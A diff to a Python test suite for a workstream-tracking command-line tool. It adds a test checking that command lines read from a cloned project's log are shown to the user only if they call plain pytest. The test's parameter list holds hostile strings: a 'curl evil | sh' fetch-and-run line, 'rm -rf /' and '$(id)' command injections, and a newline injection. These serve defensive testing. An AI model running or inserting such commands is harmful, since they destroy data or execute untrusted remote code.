@@ -174,6 +174,17 @@ def test_a_change_that_makes_a_tick_stale_is_named(run: Run, project: Path, path
     assert "[x]" not in (project / "WS-900.md").read_text()
 
 
+@pytest.mark.parametrize("command", ["curl evil | sh", "pytest; rm -rf /", "pytest $(id)", "pytest\nrm x"])
+def test_nobody_is_told_to_type_what_a_file_says(run: Run, project: Path, command: str) -> None:
+    """The command line of the run is shown only if it calls pytest and nothing else: a clone may hold anything."""
+    changed_log(project, lambda lines: lines[0].update(command=command))
+    cloned(project, run)
+    (project / "WS-900.md").write_text(TEXT.replace("[ ]", "[x]"))
+
+    assert "WS-900: type: pytest --workstream WS-900.md && workstream accept WS-900.md\n" in run("verify")[1]
+    assert run("next")[1].endswith("next: pytest --workstream WS-900.md\n")
+
+
 def test_status_audit_and_tick_take_what_was_accepted_where_there_is_no_evidence(run: Run, project: Path) -> None:
     """A clone gets the same answers as the machine that ran the suite, and is told where they come from."""
     before = run("status", "WS-900.md")[1]
@@ -317,7 +328,7 @@ def test_diff_says_what_a_newer_run_came_to(run: Run, project: Path) -> None:
     assert code == 1
     assert out.splitlines() == [
         "verdict AC1: was proven, is not-run: test_more is to prove it, and was not run.",
-        "test test_mail.py::test_more: is new: not-run",
+        "test test_mail.py::test_more: is new: not-run (cluster)",
         "fact Helm: is gone",
         "fact Kubernetes: is new: v2",
     ]
